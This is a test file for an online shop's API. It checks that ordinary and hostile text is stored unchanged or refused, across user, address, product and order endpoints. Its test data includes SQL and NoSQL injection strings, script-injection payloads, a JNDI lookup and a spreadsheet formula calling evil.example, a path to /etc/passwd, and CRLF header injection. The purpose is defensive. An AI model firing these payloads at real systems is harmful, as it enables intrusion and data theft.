import { describe, expect, test } from 'vitest'
import { anAddress, aSeller, aShopper, aVisitor, type TestUser } from '../builders/accounts.ts'
import { aProduct } from '../builders/products.ts'
import { listJsonLeaves } from '../json-leaves.ts'
import { json, startShop } from '../shop.ts'

const shop = await startShop()
const [asha, seller, rice] = [await aShopper(shop), await aSeller(shop), await aProduct(shop)]
let count = 0

/** Ordinary and hostile input; each is plain text for the shop. */
const texts: Record<string, string> = {
  'composed letters': 'Café',
  'the same letters in parts': 'Cafe\u0301',
  Assamese: 'জোহা চাউল, সৰু দানা',
  Hindi: 'ज़ोहा चावल',
  'Arabic, from right to left': 'أرز جوها',
  'text turned around': 'Rice \u202e.gpj.exe\u202c',
  'a family joined by invisible signs': '👩‍🌾👨‍👩‍👧‍👦',
  'a flag and a colour of skin': '🇮🇳👍🏽',
  'letters of four bytes': '𠜎𝒳🐟',
  'spaces of other kinds': 'a\u00a0b\u2003c\u200bd',
  'many marks on one letter': `Z${'\u0351\u0363\u0489'.repeat(20)}`,
  'a command for the database': `'; DROP TABLE products; DELETE FROM users; --`,
  'a condition that is always true': `' OR '1'='1`,
  'a quote in dollars': '$$; SELECT pg_sleep(9); $$ $1 \u0024{1} %s :name ?',
  backslashes: `\\'; \\x00 \\u0000 \\\\`,
  'signs of patterns': '%_%_ 100% [a-z]* (a+)+$',
  'a script': `<script>alert(1)</script>`,
  'a picture with a plan': `"><img src=x onerror=alert(1)>`,
  'an address that is a script': 'javascript:alert(1)',
  'a template': '{{7*7}} \u0024{7*7} <%= 7*7 %> #{7*7}',
  'a formula': '=HYPERLINK("http://evil.example","x")',
  'names of objects': '__proto__ constructor toString',
  JSON: '{"$gt":""}',
  'a path': '../../../../etc/passwd',
  'a lookup': '\u0024{jndi:ldap://evil.example/x}',
}

const lines: Record<string, string> = {
  'two lines': 'one\ntwo',
  'a line of a mail': 'Asha\r\nBcc: all@haat.example',
  'a line of a log': 'x\r\n{"level":"info","msg":"forged"}',
  'a tab': 'one\ttwo',
  'colours of a terminal': 'a\u001b[31mb',
  'signs of control': 'a\u0001b\u007fc\u0085d',
  'separators of lines': 'one\u2028two\u2029three',
}

describe('text', () => {
  test.for(Object.entries(texts))('of %s is returned as it was sent, from every table', async ([, text]) => {
    const shopper = aVisitor(shop)
    const email = `text-${++count}@example.com`
    const { user } = await shopper.register({ name: text, email, password: 'mustard-fields-in-bloom' })
    expect(user.name).toBe(text)
    expect((await shopper.getShopperSession()).user.name).toBe(text)

    const typed = { firstName: text, lastName: text, street: text, city: text, state: text, country: text }
    const { address } = await shopper.addAddress({ address: anAddress(typed) })
    expect(address).toMatchObject(typed)
    expect((await shopper.listAddresses()).addresses).toEqual([address])

    const data = {
      name: text,
      description: [text],
      category: 'Grocery',
      price: 60,
      offerPrice: 55,
      weight: text,
    }
    const { product } = await seller.addProduct(data)
    expect(product).toMatchObject({ name: text, description: [text], weight: text })
    expect((await shopper.listProducts({ ids: product._id })).products).toEqual([product])
    expect((await shopper.listProducts({ q: text.trim() })).products).toContainEqual(product)

    await shopper.placeCodOrder({ items: [{ product: product._id, quantity: 1 }], address: address._id })
    const [order] = (await shopper.listMyOrders()).orders
    expect(order).toMatchObject({ address: typed, items: [{ product: { name: text, weight: text } }] })
    // A list of orders has neither its history nor its open payment.
    const { history: _steps, online: _payment, ...seen } = order!
    expect((await seller.listOrders()).orders[0]).toMatchObject(seen)
  })

  test.for(Object.entries(lines))('of %s is refused in a field of one line', async ([, text]) => {
    const oneLine = {
      code: 'invalid_input',
      message: expect.stringMatching(/must be a single line of text$/),
    }
    const registration = { email: `line-${++count}@example.com`, password: 'mustard-fields-in-bloom' }
    await expect(aVisitor(shop).register({ ...registration, name: text })).rejects.toMatchObject(oneLine)
    await expect(asha.updateProfile({ name: text })).rejects.toMatchObject(oneLine)
    for (const field of ['firstName', 'lastName', 'street', 'city', 'state', 'country'])
      await expect(asha.addAddress({ address: anAddress({ [field]: text }) })).rejects.toMatchObject(oneLine)
    const product = { name: 'Rice', category: 'Grocery', price: 60, offerPrice: 55 }
    for (const field of ['name', 'weight', 'sku'])
      await expect(seller.addProduct({ ...product, [field]: text })).rejects.toMatchObject(oneLine)
    await expect(
      seller.inviteStaff({ name: text, email: registration.email, role: 'packer' }),
    ).rejects.toMatchObject(oneLine)
    const added = await seller.addProduct({ ...product, description: [text] })
    expect(added.product.description).toEqual([text])
  })

  test('composed and decomposed are two names, stored as typed', async () => {
    const one = await aProduct(shop, { name: 'Crème fraîche' })
    const { products } = await asha.listProducts({ ids: one._id })
    expect(products[0]?.name).not.toBe('Crème fraîche'.normalize('NFD'))
  })

  test('with half a character or with NUL is refused by every endpoint, and never an internal error', async () => {
    const address = anAddress()
    const registration = { name: 'Asha', email: 'half@example.com', password: 'mustard-fields-in-bloom' }
    // As raw JSON, because JSON.stringify would escape it.
    for (const bad of ['x\\u0000y', '\\u0000', 'x\\ud83d', '\\udc4dx', '\\ud83d\\ud83d']) {
      const tries: [string, string, object][] = [
        ...Object.keys(address)
          .filter((field) => field !== 'zipcode')
          .map((field): [string, string, object] => [
            '/api/address/add',
            field,
            { address: { ...address, [field]: 'BAD' } },
          ]),
        ['/api/user/register', 'name', { ...registration, name: 'BAD' }],
        ['/api/user/register', 'email', { ...registration, email: 'BAD@example.com' }],
        ['/api/user/login', 'email', { email: 'BAD@example.com', password: 'x' }],
        ['/api/order/cod', 'address', { items: [{ product: rice._id, quantity: 1 }], address: 'BAD' }],
      ]
      for (const [path, field, body] of tries) {
        const text = JSON.stringify(body).replace('BAD', bad)
        const reply = await asha.browser.send(path, { ...json('POST', {}), body: text })
        expect([path, field, bad, reply.statusCode, reply.json().success]).toEqual([
          path,
          field,
          bad,
          400,
          false,
        ])
      }
      for (const field of ['name', 'description', 'category', 'weight']) {
        const data = {
          name: 'Rice',
          description: ['x'],
          category: 'Grocery',
          price: 60,
          offerPrice: 55,
          weight: '1 kg',
        }
        const form = new FormData()
        const wanted = { ...data, [field]: field === 'description' ? ['BAD'] : 'BAD' }
        form.append('productData', JSON.stringify(wanted).replace('BAD', bad))
        const reply = await seller.browser.send('/api/product/add', { method: 'POST', body: form })
        expect([field, bad, reply.statusCode]).toEqual([field, bad, 400])
      }
    }
  })

  test('is required where text is expected: lists, objects and conditions are refused', async () => {
    const bodies: [TestUser, string, string, unknown][] = [
      [
        asha,
        'POST',
        '/api/user/register',
        { name: 'Asha', email: 'x@example.com', password: 'mustard-fields-in-bloom' },
      ],
      [asha, 'POST', '/api/user/login', { email: asha.email, password: asha.password }],
      [seller, 'POST', '/api/seller/login', { email: seller.email, password: seller.password }],
      [seller, 'POST', '/api/product/stock', { id: rice._id, inStock: false }],
      [asha, 'POST', '/api/cart/update', { cartItems: { [rice._id]: 1 } }],
      [asha, 'POST', '/api/address/add', { address: anAddress() }],
      [
        asha,
        'POST',
        '/api/order/cod',
        { items: [{ product: rice._id, quantity: 1 }], address: asha.address },
      ],
      [seller, 'PUT', `/api/order/seller/order/${crypto.randomUUID()}/status`, { status: 'Shipped' }],
    ]
    for (const [person, method, path, body] of bodies) {
      for (const leaf of listJsonLeaves(body)) {
        for (const wrong of [
          { $gt: '' },
          { $ne: null },
          { $where: '1' },
          [],
          [leaf.value],
          [[]],
          null,
          Number.NaN,
        ]) {
          const reply = await person.browser.send(path, json(method, leaf.replaced(wrong)))
          const about = `${path} ${leaf.path.join('.')} = ${JSON.stringify(wrong)}`
          expect([about, reply.statusCode, reply.json().success]).toEqual([about, 400, false])
        }
      }
    }
  })
})
